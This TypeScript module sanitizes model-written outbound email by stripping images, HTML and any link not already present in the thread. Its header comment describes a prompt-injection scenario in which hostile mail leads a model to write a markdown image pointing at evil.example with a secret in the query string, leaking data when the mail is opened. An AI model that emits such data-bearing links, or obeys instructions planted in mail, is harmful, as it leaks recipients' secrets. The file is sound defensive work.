import { stripInvisible } from './invisible.ts';
import { decodeEntities, escapeReferences, type SanitizeContext, stripHtml } from './outbound-html.ts';
import { stripMarkdown } from './outbound-markdown.ts';
import { comparisonKey, findLinks, isDangerousUrl, normalizeUrl } from './outbound-url.ts';

/**
 * Outbound mail carries no remote images and no data-bearing links (DESIGN.md safety model,
 * RELIABILITY 20). A model that read hostile mail can be talked into writing
 * `![](https://evil.example/p.png?d=<secret>)` — an image the recipient's client fetches on
 * open, leaking the secret with no click — or a link that does the same on a click. So text a
 * model wrote passes through here before it can become part of a message: images go, HTML goes,
 * and a link stays only if the very same URL was already in the thread (same host is not
 * enough: the path and query are where data hides).
 *
 * Passes, in order: invisible and control characters out; HTML character references decoded;
 * `<scheme:…>` autolinks; HTML tags; markdown definitions, images and links; every remaining
 * URL-like span. The last steps are the safety net, whatever the structured passes missed or
 * their removals joined together: no URL that is not allowed survives the URL pass, and
 * `neutralize` leaves no tag start, no `![` and no character reference that could still decode.
 */

export interface SanitizedText {
  text: string;
  removed: Array<{ kind: 'image' | 'link' | 'html'; value: string }>;
}

/** Replaces a removed link until the end, so no later pass can read the marker as markdown. */
const SENTINEL = '\uE000';
const LINK_REMOVED = '[link removed]';
/** Hostile input can hold a million images; the record of what went is capped, the removal is not. */
const MAX_RECORDS = 200;
const MAX_VALUE = 300;
// C0/C1 controls except tab and newline, DEL, and our sentinel (so input cannot forge it).
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\uE000]/g;
/**
 * What an HTML tokenizer takes for the start of a tag, comment or declaration: `<` then a letter,
 * `/`+letter, `!` or `?`. `<name@domain>` is let through: an address in angle brackets is common
 * in mail, and as HTML it is an element with no attributes that can load nothing.
 */
const TAG_LIKE = /<(?![^\s<>@]+@[^\s<>@]+>)(?=\/?[a-z]|[!?])/gi;
/** CommonMark autolink `<scheme:…>`, plus `<www.…>` which some renderers link too. */
const AUTOLINK = /<((?:[a-z][a-z0-9+.-]{1,31}:|www\.)[^\s<>]*)>/gi;

/**
 * URLs written in text, normalized for comparison (see `normalizeUrl`), unique, in order:
 * `scheme://…` (http, https, ftp and any other), `mailto:` and similar, `www.…`, scheme-less
 * `host.tld/path` and `//host/path`. `data:`, `javascript:`, `file:` and kin are never returned:
 * they are never allowed. Character references are decoded first, as the sanitizer does.
 */
export function urlsIn(text: string): string[] {
  const seen = new Set<string>();
  for (const link of findLinks(prepare(text, discard))) {
    if (link.normalized !== null && !isDangerousUrl(link.normalized)) seen.add(link.normalized);
  }
  return [...seen];
}

/**
 * Model output → text safe to send: no markdown or HTML images, no HTML, no link that was not
 * already in the thread (`allowedUrls`, e.g. `urlsIn` of every thread text). A markdown link to
 * an allowed URL becomes `text (url)`, to any other `text`; an autolink or bare URL not allowed
 * becomes `[link removed]`; `data:`/`javascript:`/`vbscript:`/`file:` URIs vanish. Bare host
 * names without a path (`acme.example`) stay: they carry no path or query. Total and pure; never
 * throws; linear in the input.
 */
export function sanitizeOutboundText(text: string, allowedUrls: Iterable<string>): SanitizedText {
  const keys = new Set<string>();
  for (const url of allowedUrls) {
    const n = normalizeUrl(String(url));
    if (n !== null && !isDangerousUrl(n)) keys.add(comparisonKey(n));
  }
  const removed: SanitizedText['removed'] = [];
  const ctx: Context = {
    allowedNormal: (n) => !isDangerousUrl(n) && keys.has(comparisonKey(n)),
    allowed: (url) => {
      const n = normalizeUrl(url);
      return n !== null && ctx.allowedNormal(n);
    },
    remove: (kind, value) => {
      if (removed.length < MAX_RECORDS) removed.push({ kind, value: clipValue(value) });
    },
  };
  let out = prepare(text, ctx);
  out = autolinks(out, ctx);
  out = stripHtml(out, ctx);
  out = stripMarkdown(out, ctx);
  out = bareLinks(out, ctx);
  return { text: neutralize(tidy(out)), removed };
}

/**
 * Guarantees that hold whatever the passes missed or removals joined (`<` + a removed link +
 * `img src=…`): no tag start, no image syntax, no character reference left to decode. A space
 * keeps the marker from extending what precedes it (`https://` + `[link…` reads as a URL), and
 * `![` is broken up after the marker is in, so `!` + `[link removed]` + `(url)` is no image.
 * The price: prose like `a<b` comes out as `a< b`.
 */
function neutralize(text: string): string {
  return escapeReferences(
    text
      .replace(/(?<=[^\s([{<>"'`\uE000])\uE000/g, ` ${SENTINEL}`)
      .replaceAll(SENTINEL, LINK_REMOVED)
      .replace(/!\[/g, '! [')
      .replace(TAG_LIKE, '< '),
  );
}

/** The passes' context, plus a check on an already-normalized URL (the last pass has one for each link). */
interface Context extends SanitizeContext {
  allowedNormal(normalized: string): boolean;
}

const discard: SanitizeContext = { allowed: () => false, remove: () => undefined };

/** Line endings unified; invisible and control characters out, before and after decoding references. */
function prepare(text: string, ctx: SanitizeContext): string {
  const visible = stripInvisible(String(text).replace(/\r\n?/g, '\n')).text.replace(CONTROL, '');
  return stripInvisible(decodeEntities(visible, ctx)).text.replace(CONTROL, '');
}

function autolinks(text: string, ctx: Context): string {
  return text.replace(AUTOLINK, (m, url: string) => {
    const normalized = normalizeUrl(url);
    return normalized === null ? m : keepOrMark(url, normalized, ctx);
  });
}

function bareLinks(text: string, ctx: Context): string {
  const out: string[] = [];
  let pos = 0;
  for (const link of findLinks(text)) {
    if (link.normalized === null) continue;
    out.push(text.slice(pos, link.start), keepOrMark(link.raw, link.normalized, ctx));
    pos = link.end;
  }
  out.push(text.slice(pos));
  return out.join('');
}

/** An allowed URL as written; a dangerous one removed outright; any other one replaced by the marker. */
function keepOrMark(url: string, normalized: string, ctx: Context): string {
  if (ctx.allowedNormal(normalized)) return url;
  ctx.remove('link', url);
  return isDangerousUrl(normalized) ? '' : SENTINEL;
}

/** Removals leave double spaces, trailing blanks and runs of empty lines; close them up. */
function tidy(text: string): string {
  return text
    .split('\n')
    .map((line) => line.replace(/(?<=\S) {2,}(?=\S)/g, ' ').trimEnd())
    .join('\n')
    .replace(/\n{3,}/g, '\n\n')
    .trim();
}

function clipValue(value: string): string {
  return value.length > MAX_VALUE ? `${value.slice(0, MAX_VALUE - 1)}…` : value;
}
